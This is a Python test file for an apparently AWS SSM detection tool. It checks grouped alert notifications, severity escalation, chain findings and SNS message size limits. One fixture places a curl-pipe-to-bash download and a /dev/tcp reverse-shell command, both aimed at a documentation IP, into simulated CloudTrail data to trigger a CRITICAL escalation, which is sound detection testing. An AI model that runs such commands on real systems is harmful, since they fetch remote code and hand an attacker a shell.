"""One notification for the findings of one event, and escalations (render/grouped.py).

Also builds the grouped, escalation and chain examples that docs/rendered-examples.md shows
(`grouped_examples_markdown`, called by the doc's generator in tests/test_render_sns.py).
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from ssm_detect.delivery import Dispatcher
from ssm_detect.findings import Finding
from ssm_detect.ledger.sqlite import SqliteLedger
from ssm_detect.render import grouped as render_grouped
from ssm_detect.render.grouped import format_notification
from ssm_detect.render.sns_message import MAX_SNS_BYTES, MAX_SUBJECT, format_sns
from ssm_detect.settings import Settings
from ssm_detect.state.memory import MemoryStateStore
from ssm_detect.wiring import local_pipeline
from tests.builders import load_record, parse, send_command
from tests.conftest import load_event

NOW = datetime(2025, 3, 10, 12, 0, tzinfo=UTC)
START = datetime(2025, 3, 10, 10, 0, tzinfo=UTC)
FLEET = [f"i-{n:017x}" for n in range(1, 64)]


class _Notifier:
    name = "sns"

    def __init__(self) -> None:
        self.sent: list[list[Finding]] = []

    def send(self, findings: Sequence[Finding]) -> None:
        self.sent.append(list(findings))


def notifications(records: list[dict[str, Any]]) -> list[list[Finding]]:
    """What a notifier is handed for these CloudTrail records, one event at a time."""
    settings = Settings()
    pipeline = local_pipeline(settings, MemoryStateStore())
    notifier = _Notifier()
    dispatcher = Dispatcher(SqliteLedger(), settings, (notifier,), (), clock=lambda: NOW)
    for record in records:
        dispatcher.deliver(pipeline.process(parse(record)).findings)
    return notifier.sent


def _call(event_id: str, minutes: int, instances: list[str]) -> dict[str, Any]:
    record = send_command(
        instances,
        event_id=event_id,
        at=START + timedelta(minutes=minutes),
        template="panther_send_command_three_instances.json",
    )
    record["userIdentity"] = load_record("panther_send_command_three_instances.json")[
        "userIdentity"
    ]
    return record


def escalation_story() -> list[list[Finding]]:
    """Issue 14's sequence: 3 instances, then 63, then visible `curl … | bash` + `/dev/tcp`."""
    third = _call("esc-3", 10, FLEET[:1])
    third["requestParameters"]["parameters"] = {
        "commands": [
            "curl -s http://203.0.113.9/x.sh | bash",
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        ]
    }
    return notifications([_call("esc-1", 0, FLEET[:3]), _call("esc-2", 5, FLEET), third])


def grouped() -> list[Finding]:
    (group,) = notifications([load_event("panther_send_command_three_instances.json")["detail"]])
    return group


def chain() -> list[Finding]:
    created = load_event("chain_create_rare_document.json")["detail"]
    ran = load_event("chain_execute_within_window.json")["detail"]
    # run by someone else than the creator: the chain names both
    identity = ran["userIdentity"]
    identity["arn"] = identity["arn"].replace("LegacyBackupRole/tmp-session", "OpsRunner/alex")
    issuer = identity.get("sessionContext", {}).get("sessionIssuer", {})
    if "arn" in issuer:
        issuer["arn"] = issuer["arn"].replace("LegacyBackupRole", "OpsRunner")
        issuer["userName"] = "OpsRunner"
    return notifications([created, ran])[-1]


def _parts(findings: Sequence[Finding]) -> tuple[str, dict[str, Any], dict[str, Any]]:
    message = format_notification(findings)
    body = json.loads(message.message)
    return message.subject, body, json.loads(body["https"])


def test_grouped_one_event_lists_each_detection_and_severity() -> None:
    findings = grouped()
    assert sorted(f.detection_id for f in findings) == [
        "AWS.SSM.DistributedCommand",
        "AWS.SSM.SendCommand",
    ]
    subject, body, chatbot = _parts(findings)
    assert subject.startswith("[ssm-detect] HIGH: 2 findings:")
    assert subject.endswith("(111122223333)")
    head = body["email"].split("Each finding follows", 1)[0]
    assert "HIGH          AWS.SSM.SendCommand" in head
    assert "INFORMATIONAL AWS.SSM.DistributedCommand" in head
    for finding in findings:  # each finding's own rendering follows, whole
        assert json.loads(format_sns(finding).message)["email"] in body["email"]
    assert "One event raised 2 finding(s)" in chatbot["content"]["description"]
    assert len(chatbot["content"]["description"]) <= 3000
    assert len(chatbot["content"]["nextSteps"]) <= 8


def test_grouped_single_finding_is_rendered_as_before() -> None:
    (finding,) = notifications([load_event("send_command_success.json")["detail"]])[0]
    assert format_notification([finding]) == format_sns(finding)


def test_escalation_says_from_what_to_what_and_what_changed() -> None:
    first, rise, critical = escalation_story()
    assert len(first) == 2
    assert [f.severity.value for f in rise] == ["MEDIUM"]
    subject, body, chatbot = _parts(critical)
    assert subject.startswith("[ssm-detect] CRITICAL: escalated from HIGH:")
    assert "ESCALATED from HIGH to CRITICAL" in body["email"]
    assert "raised to CRITICAL" in body["email"]
    assert "ESCALATED from HIGH to CRITICAL" in chatbot["content"]["description"]


def test_grouped_subject_keeps_severity_and_account_when_titles_are_long() -> None:
    findings = [f.model_copy(update={"title": "T" * 300}) for f in grouped()]
    subject = format_notification(findings).subject
    assert len(subject) <= MAX_SUBJECT
    assert subject.startswith("[ssm-detect] HIGH: ")
    assert subject.endswith("(111122223333)")


def test_grouped_message_fits_sns_limit_with_large_content(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    big = "echo padding\n" * 30_000
    findings = [f.model_copy(update={"context": {**f.context, "content": big}}) for f in grouped()]
    assert format_notification(findings).size <= MAX_SNS_BYTES
    # each finding's rendering fits on its own; together they can pass a (smaller) limit: the
    # email is cut from its end, with a note
    monkeypatch.setattr(render_grouped, "MAX_SNS_BYTES", 12_000)
    message = format_notification(findings)
    assert message.size <= 12_000
    assert "truncated to fit the SNS size limit" in json.loads(message.message)["email"]


def test_a_chain_travels_with_the_run_that_closed_it() -> None:
    detections = sorted(f.detection_id for f in chain())
    assert "AWS.SSM.CreatedDocumentExecuted" in detections
    assert len(detections) >= 2


def grouped_examples_markdown() -> list[str]:
    """The doc's sections for a grouped notification, an escalation and a chain."""
    lines: list[str] = []
    examples = [
        (
            "A grouped notification",
            "One `SendCommand` to three instances raises the SendCommand finding (HIGH) and the "
            "fan-out finding (INFORMATIONAL): one message lists both, then renders each.",
            grouped(),
        ),
        (
            "An escalation",
            "The same principal then runs a command whose visible parameters fetch and pipe to a "
            "shell and open `/dev/tcp` (issue 14's sequence): the SendCommand window had "
            "notified HIGH, this firing is CRITICAL, so it notifies again, once.",
            escalation_story()[-1],
        ),
        (
            "A chain with the run that closed it",
            "A document created by one principal, then run by another: the run's own findings "
            "and the chain finding travel together; the chain names both actors.",
            chain(),
        ),
    ]
    for title, text, findings in examples:
        subject, body, chatbot = _parts(findings)
        lines += [
            "",
            f"## {title}",
            "",
            text,
            "",
            f"Subject: `{subject}`",
            "",
            "Email (`email`):",
            "",
            "```text",
            body["email"].rstrip("\n"),
            "```",
            "",
            "Slack (the Chatbot `description`):",
            "",
            "```text",
            chatbot["content"]["description"],
            "```",
        ]
    return lines
